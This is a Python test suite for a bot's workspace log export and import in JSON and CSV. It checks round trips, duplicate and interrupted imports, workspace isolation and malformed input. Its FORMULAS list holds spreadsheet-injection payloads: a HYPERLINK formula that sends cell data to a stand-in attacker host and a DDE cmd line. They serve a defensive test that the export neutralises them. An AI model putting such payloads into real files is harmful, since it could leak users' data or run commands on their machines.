"""The log out of a workspace and into another: nothing lost, doubled or half done."""

import asyncio
import csv
import io
import json
import shutil
from collections.abc import AsyncIterator, Sequence
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.errors import InputProblem, StoreUnavailable
from bot.log_records import (
    BlockerState,
    Execution,
    Hypothesis,
    Measurement,
    Objective,
    Outcome,
    Result,
)
from bot.log_transfer import Export, Imported, as_csv, as_json, collect, put_back, read
from bot.messages import Reply
from bot.standup_records import CheckIn, CheckInState
from bot.standups import prompts
from bot.stores.database import open_database
from bot.stores.log import SqlLog
from bot.stores.standups import SqlStandups
from tests.conftest import Clock
from tests.standups.made import member, standup, utc

WHEN = utc(2026, 6, 2, 9)
ON = date(2026, 6, 2)
MINUTE = timedelta(minutes=1)
HOSTILE = "Ünïcode \"quoted\" 'x', ; 🐨 \\ %s \u2028 \u202e\nsecond line\n\n=1+1"
LOG = {"objectives", "hypotheses", "outcomes", "measurements"}


@pytest.fixture(scope="session")
def empty_log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database whose tables are made, to be copied."""
    file = tmp_path_factory.mktemp("transfer") / "empty.sqlite3"

    async def make() -> None:
        await (await open_database(f"sqlite+aiosqlite:///{file}")).close()

    asyncio.run(make())
    return file


class Store:
    """A log and its standups."""

    def __init__(self, log: SqlLog, standups: SqlStandups) -> None:
        self.log = log
        self.standups = standups

    async def export(self, workspace: str = "T1") -> Export:
        return await collect(self.log, self.standups, workspace, WHEN)


@pytest.fixture
async def store(empty_log: Path, tmp_path: Path, clock: Clock) -> AsyncIterator[Store]:
    shutil.copy(empty_log, tmp_path / "coach.sqlite3")
    database = await open_database(f"sqlite+aiosqlite:///{tmp_path / 'coach.sqlite3'}")
    yield Store(SqlLog(database), SqlStandups(database, clock))
    await database.close()


def edit(workspace: str = "T1", minutes: int = 0) -> dict[str, object]:
    at = WHEN + minutes * MINUTE
    return {"workspace": workspace, "created_at": WHEN, "edited_by": "ana", "edited_at": at}


def objective(id_: str = "churn", **more: object) -> Objective:
    fields: dict[str, object] = {
        **edit(),
        "id": id_,
        "name": "Less churn",
        "measure": "monthly churn",
        "target": "at most 4 %",
        "due": date(2026, 9, 1),
    }
    return Objective.model_validate(fields | more)


def hypothesis(name: str = "larger", **more: object) -> Hypothesis:
    fields: dict[str, object] = {
        **edit(),
        "id": name,
        "objective": "churn",
        "claim": "A larger model finds more",
        "prior": 0.4,
        "owner": "ana",
        "resolve_by": date(2026, 7, 1),
    }
    return Hypothesis.model_validate(fields | more)


def outcome(name: str = "Ev1", **more: object) -> Outcome:
    fields: dict[str, object] = {
        "workspace": "T1",
        "id": name,
        "hypothesis": "larger",
        "person": "ana",
        "at": WHEN,
        "on": ON,
        "result": Result.STILL_RUNNING,
    }
    return Outcome.model_validate(fields | more)


def reading(name: str = "R1", **more: object) -> Measurement:
    fields: dict[str, object] = {
        "workspace": "T1",
        "id": name,
        "objective": "churn",
        "on": ON,
        "value": 4.5,
        "person": "ana",
        "at": WHEN,
    }
    return Measurement.model_validate(fields | more)


async def fill(store: Store) -> None:
    """Keep something of every kind, edited, corrected and in hostile words."""
    log, standups = store.log, store.standups
    first = await log.save_objective(objective())
    assert first is not None
    await log.save_objective(first.model_copy(update={"name": HOSTILE, **edit(minutes=5)}))
    await log.save_objective(objective("cost", due=date(2026, 8, 1), state="met"))
    bet = await log.save_hypothesis(hypothesis(shares=("labels", "data"), metric="AUC"))
    assert bet is not None
    closed = {"state": "refuted", "claim": HOSTILE, **edit(minutes=9)}
    await log.save_hypothesis(bet.model_copy(update=closed))
    await log.save_hypothesis(hypothesis("untouched", prior=0.0, owner_name="Ana"))
    everything = {
        "chance": 0.25, "tried": HOSTILE, "execution": Execution.CUT_SHORT, "learned": HOSTILE,
        "value": -0.5, "evidence": "https://example.com/1", "next": HOSTILE, "blocker": HOSTILE,
        "blocker_state": BlockerState.STILL, "check_in": "search:2026-06-02:ana",
    }  # fmt: skip
    await log.add_outcomes(
        [
            outcome("Ev1", **everything),
            outcome("Ev2", replaces="Ev1", result=Result.REFUTED, at=WHEN + MINUTE),
            outcome("Ev3", person="bo", chance=0.0, value=0.0, at=WHEN + MINUTE),
        ]
    )
    await log.add_measurement(reading(note=HOSTILE))
    await log.add_measurement(reading("R2", value=0.0, on=ON - timedelta(days=30)))
    kept = await standups.save(standup(member("ana")))
    assert kept is not None
    asked = CheckIn(workspace="T1", standup="search", on=ON, person=member("ana").person,
                    opens_at=WHEN, closes_at=WHEN + MINUTE)  # fmt: skip
    prompt = prompts.delivery(kept, asked, "check-in", Reply(text="Well?"))
    await standups.plan(kept, WHEN, [asked], {asked.key: prompt})
    answer = {"state": CheckInState.ANSWERED, "answers": {"Mood?": HOSTILE}, "answered_at": WHEN}
    await standups.settle(asked.model_copy(update=answer), event="Ev1")


def log_of(export: Export) -> dict[str, Any]:
    """Return what an import brings back, wherever it was exported."""
    text = as_json(export).replace('"workspace": "T2"', '"workspace": "T1"')
    return {name: value for name, value in json.loads(text).items() if name in LOG}


# -- there and back


async def test_what_is_exported_and_imported_is_exported_as_the_same(store: Store) -> None:
    await fill(store)
    first = await store.export()
    new = await put_back(read(as_json(first)), store.log, "T2")
    assert new == Imported(objectives=3, hypotheses=3, outcomes=3, measurements=2)
    second = await store.export("T2")
    assert log_of(second) == log_of(first)
    assert second.workspace == "T2"
    assert [len(getattr(second, name)) for name in sorted(LOG)] == [3, 2, 3, 3]


async def test_nobody_is_asked_because_a_file_was_read(store: Store) -> None:
    await fill(store)
    first = await store.export()
    assert len(first.standups) == len(first.check_ins) == 1
    await put_back(first, store.log, "T2")
    second = await store.export("T2")
    assert (second.standups, second.check_ins) == ((), ())


async def test_an_import_that_is_repeated_adds_nothing(store: Store) -> None:
    await fill(store)
    first = await store.export()
    await put_back(first, store.log, "T2")
    assert await put_back(first, store.log, "T2") == Imported()
    assert await put_back(first, store.log, "T1") == Imported()
    assert await store.export() == first
    assert log_of(await store.export("T2")) == log_of(first)


async def test_an_export_that_is_older_than_the_log_changes_nothing_in_it(store: Store) -> None:
    await fill(store)
    before = await store.export()
    latest = await store.log.hypothesis("T1", "larger")
    assert latest is not None
    await store.log.save_hypothesis(latest.model_copy(update={"state": "open"}))
    after = await store.export()
    assert await put_back(before, store.log, "T1") == Imported()
    assert await store.export() == after


async def test_an_export_that_is_newer_than_the_log_adds_what_is_new_alone(store: Store) -> None:
    await fill(store)
    await put_back(await store.export(), store.log, "T2")
    await store.log.add_outcomes([outcome("Ev4", at=WHEN + 9 * MINUTE)])
    latest = await store.log.hypothesis("T1", "larger")
    assert latest is not None
    await store.log.save_hypothesis(latest.model_copy(update={"state": "open"}))
    newer = await store.export()
    assert await put_back(newer, store.log, "T2") == Imported(hypotheses=1, outcomes=1)
    assert log_of(await store.export("T2")) == log_of(newer)


async def test_two_imports_at_once_leave_one_of_everything(store: Store) -> None:
    await fill(store)
    first = await store.export()
    await asyncio.gather(*(put_back(first, store.log, "T2") for _ in range(3)))
    assert log_of(await store.export("T2")) == log_of(first)


async def test_workspaces_are_strangers(store: Store) -> None:
    await fill(store)
    await store.log.save_objective(objective("churn", **edit("T2")))
    await store.log.add_outcomes([outcome(workspace="T2", tried="Theirs")])
    ours, theirs = await store.export(), await store.export("T2")
    assert "Theirs" not in as_json(ours)
    assert "larger" not in as_json(theirs).replace('"hypothesis": "larger"', "")
    for export in (ours, theirs):
        rows = [*export.objectives, *export.hypotheses, *export.outcomes, *export.measurements]
        assert {each.workspace for each in rows} == {export.workspace}


async def test_an_empty_log_is_exported_and_imported_as_one(store: Store) -> None:
    export = await store.export()
    assert await put_back(read(as_json(export)), store.log, "T2") == Imported()
    assert as_csv(export).count("\n") == 1


async def test_versions_whose_first_is_missing_are_taken_as_far_as_they_go(store: Store) -> None:
    later = [hypothesis(version=n, state=s) for n, s in ((3, "open"), (5, "refuted"))]
    export = Export(workspace="T1", exported_at=WHEN, hypotheses=tuple(later))
    assert (await put_back(export, store.log, "T1")).hypotheses == 2
    kept = await store.log.hypothesis("T1", "larger")
    assert kept is not None
    assert (kept.version, kept.state) == (5, "refuted")


async def test_a_version_without_a_number_is_the_first(store: Store) -> None:
    export = Export(workspace="T1", exported_at=WHEN, objectives=(objective(),))
    await put_back(export, store.log, "T1")
    kept = await store.log.objective("T1", "churn")
    assert kept is not None
    assert kept.version == 1


class Interrupted(SqlLog):
    """A log whose database goes away after so many steps."""

    def __init__(self, log: SqlLog, steps: int) -> None:
        self.log = log
        self.steps = steps

    def _step(self) -> None:
        self.steps -= 1
        if self.steps < 0:
            raise StoreUnavailable

    async def save_objective(self, objective: Objective) -> Objective | None:
        self._step()
        return await self.log.save_objective(objective)

    async def save_hypothesis(self, hypothesis: Hypothesis) -> Hypothesis | None:
        self._step()
        return await self.log.save_hypothesis(hypothesis)

    async def outcomes(self, workspace: str, hypotheses: Sequence[str] = ()) -> list[Outcome]:
        return await self.log.outcomes(workspace, hypotheses)

    async def add_outcomes(self, outcomes: Sequence[Outcome]) -> None:
        self._step()
        await self.log.add_outcomes(outcomes)

    async def measurements(self, workspace: str, objective_id: str = "") -> list[Measurement]:
        return await self.log.measurements(workspace, objective_id)

    async def add_measurement(self, measurement: Measurement) -> None:
        self._step()
        await self.log.add_measurement(measurement)


@pytest.mark.parametrize("steps", range(9))
async def test_an_import_that_was_interrupted_is_completed_by_the_next(
    store: Store, steps: int
) -> None:
    await fill(store)
    first = await store.export()
    with pytest.raises(StoreUnavailable):
        await put_back(first, Interrupted(store.log, steps), "T2")
    await put_back(first, store.log, "T2")
    assert log_of(await store.export("T2")) == log_of(first)


async def test_what_stands_twice_in_a_file_is_counted_once(store: Store) -> None:
    twice = (outcome(), outcome())
    export = Export(workspace="T1", exported_at=WHEN, outcomes=twice)
    assert (await put_back(export, store.log, "T1")).outcomes == 1


async def test_what_belongs_to_nothing_is_kept_and_does_no_harm(store: Store) -> None:
    """An outcome of a bet that is not there, and a bet on an objective that is not there."""
    export = Export(
        workspace="T1",
        exported_at=WHEN,
        hypotheses=(hypothesis("lonely", objective="gone"),),
        outcomes=(outcome(hypothesis="gone"),),
    )
    await put_back(export, store.log, "T1")
    found = await store.export()
    assert log_of(found)["outcomes"] == log_of(export)["outcomes"]
    assert len(table(found)) == 2


# -- files that can't be used


def good() -> dict[str, Any]:
    export = Export(
        workspace="T1",
        exported_at=WHEN,
        objectives=(objective(version=1),),
        hypotheses=(hypothesis(version=1),),
        outcomes=(outcome(),),
        measurements=(reading(),),
    )
    return json.loads(as_json(export))


def changed(path: str, value: Any) -> str:
    """Return a good export with *value* at the *path*: `outcomes__0__result`."""
    made = good()
    *inner, last = (int(part) if part.isdecimal() else part for part in path.split("__"))
    place: Any = made
    for part in inner:
        place = place[part]
    place[last] = value
    return json.dumps(made)


BAD = {
    "nothing": ("", "the file"),
    "no JSON": ("objective,hypothesis\n1,2\n", "the file"),
    "truncated": (json.dumps(good())[:-30], "the file"),
    "a list": ("[]", "the file"),
    "foreign": ('{"name": "package", "version": "1.0"}', "workspace"),
    "newer": (changed("format", 2), "format"),
    "newer, with a field more": (changed("moods", []), "moods"),
    "newer, with a record's field more": (changed("outcomes__0__mood", "fine"), "outcomes.0.mood"),
    "an unknown result": (changed("outcomes__0__result", "great"), "outcomes.0.result"),
    "a chance in percent": (changed("outcomes__0__chance", 40), "outcomes.0.chance"),
    "a prior in percent": (changed("hypotheses__0__prior", 40), "hypotheses.0.prior"),
    "no date": (changed("objectives__0__due", "soon"), "objectives.0.due"),
    "no reading": (changed("measurements__0__value", None), "measurements.0.value"),
    "a claim of 501 characters": (changed("hypotheses__0__claim", "x" * 501), "hypotheses.0.claim"),
    "no version": (changed("objectives__0__version", -1), "objectives.0.version"),
    "nested without end": ("[" * 100_000, "the file"),
    "a rehearsal's output": (json.dumps({"sent": [], "log": good()}), "workspace"),
}


@pytest.mark.parametrize("mistake", BAD)
def test_a_file_that_can_not_be_used_is_told_with_the_place(mistake: str) -> None:
    text, place = BAD[mistake]
    with pytest.raises(InputProblem) as raised:
        read(text)
    said = raised.value.sentence
    assert said.startswith(f"I can't use that: that is no export of the log ({place}: ")
    assert said.endswith("Nothing was changed.")
    assert "\n" not in said
    assert len(said) < 300


@pytest.mark.parametrize("path", ["objectives__0__name", "hypotheses__0__claim"])
def test_a_name_of_nothing_that_can_be_read_is_refused(path: str) -> None:
    """Stored, it would be empty, and an objective without a name can't be read again."""
    with pytest.raises(InputProblem):
        read(changed(path, "\x01\x02"))


@pytest.mark.parametrize("number", ["1e999", "NaN", "-Infinity"])
@pytest.mark.parametrize("path", ["measurements__0__value", "outcomes__0__value"])
def test_a_number_without_end_is_refused(path: str, number: str) -> None:
    """Stored, it would be null, and a reading that is null can't be read again."""
    text = changed(path, "HERE").replace('"HERE"', number)
    with pytest.raises(InputProblem):
        read(text)


@pytest.mark.parametrize("database_url", ["postgresql"], indirect=True)
async def test_what_does_not_fit_into_the_database_is_refused_before_anything_is_stored(
    database_url: str, clock: Clock
) -> None:
    database = await open_database(database_url)
    store = Store(SqlLog(database), SqlStandups(database, clock))
    try:
        with pytest.raises(InputProblem):
            await put_back(read(changed("outcomes__0__id", "x" * 500)), store.log, "T1")
        assert (await store.export()).objectives == ()
    finally:
        await database.close()


# -- the table


def table(export: Export) -> list[dict[str, str]]:
    """Return the rows of the table, as spreadsheets read them."""
    rows = list(csv.reader(io.StringIO(as_csv(export))))
    assert {len(row) for row in rows} == {27}
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


async def test_there_is_a_row_for_each_outcome_and_for_each_bet_without_any(store: Store) -> None:
    await fill(store)
    rows = table(await store.export())
    assert [(row["hypothesis"], row["result"], row["corrected"]) for row in rows] == [
        (HOSTILE, "still_running", "yes"),
        (HOSTILE, "refuted", ""),
        (HOSTILE, "still_running", ""),
        ("A larger model finds more", "", ""),
    ]
    assert {row["objective"] for row in rows} == {HOSTILE}
    assert rows[0]["objective_state"] == "open"
    assert rows[0]["hypothesis_state"] == "refuted"
    assert rows[3]["owner"] == "Ana"
    assert rows[3]["prior"] == "0.0"


async def test_texts_with_line_ends_quotes_and_commas_survive_in_the_table(store: Store) -> None:
    await fill(store)
    first = table(await store.export())[0]
    for column in ("tried", "learned", "next", "blocker"):
        assert first[column] == HOSTILE
    assert (first["chance"], first["value"], first["shares"]) == ("0.25", "-0.5", "labels, data")


async def test_nought_is_told_from_nothing(store: Store) -> None:
    await fill(store)
    rows = table(await store.export())
    assert [(row["chance"], row["value"]) for row in rows] == [
        ("0.25", "-0.5"),
        ("", ""),
        ("0.0", "0.0"),
        ("", ""),
    ]
    assert "None" not in as_csv(await store.export())


def exported(**texts: str) -> Export:
    return Export(
        workspace="T1",
        exported_at=WHEN,
        objectives=(objective(name=texts.get("objective", "O")),),
        hypotheses=(
            hypothesis(claim=texts.get("claim", "C"), metric=texts.get("metric", ""),
                       shares=(texts.get("shares", "s"),), owner_name=texts.get("owner", "A")),
        ),
        outcomes=(
            outcome(tried=texts.get("tried", ""), evidence=texts.get("evidence", ""),
                    person=texts.get("person", "ana")),
        ),
    )  # fmt: skip


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]


@pytest.mark.parametrize(
    ("field", "column"),
    [
        ("objective", "objective"),
        ("claim", "hypothesis"),
        ("metric", "metric"),
        ("shares", "shares"),
        ("owner", "owner"),
        ("tried", "tried"),
        ("evidence", "evidence"),
        ("person", "person"),
    ],
)
def test_what_a_spreadsheet_would_compute_begins_with_an_apostrophe(
    field: str, column: str
) -> None:
    found = [table(exported(**{field: text}))[0][column] for text in FORMULAS]
    assert found == [f"'{text}" for text in FORMULAS]


@pytest.mark.parametrize("text", ["a=b", "1-2", "me@example.com", "'quoted'", " - a list", "0"])
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    (row,) = table(exported(tried=text))
    assert row["tried"] == text


@settings(deadline=None, max_examples=150)
@given(tried=st.text(max_size=60), claim=st.text(max_size=60).map(lambda text: f"{text}."))
def test_every_text_comes_out_of_the_table_and_of_json_as_it_was(tried: str, claim: str) -> None:
    export = exported(tried=tried, claim=claim)
    kept = export.outcomes[0].tried
    assert read(as_json(export)) == export
    (row,) = table(export)
    assert row["tried"].removeprefix("'") in (kept, kept.removeprefix("'"))
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\n", "＝", "＋", "－", "＠"))
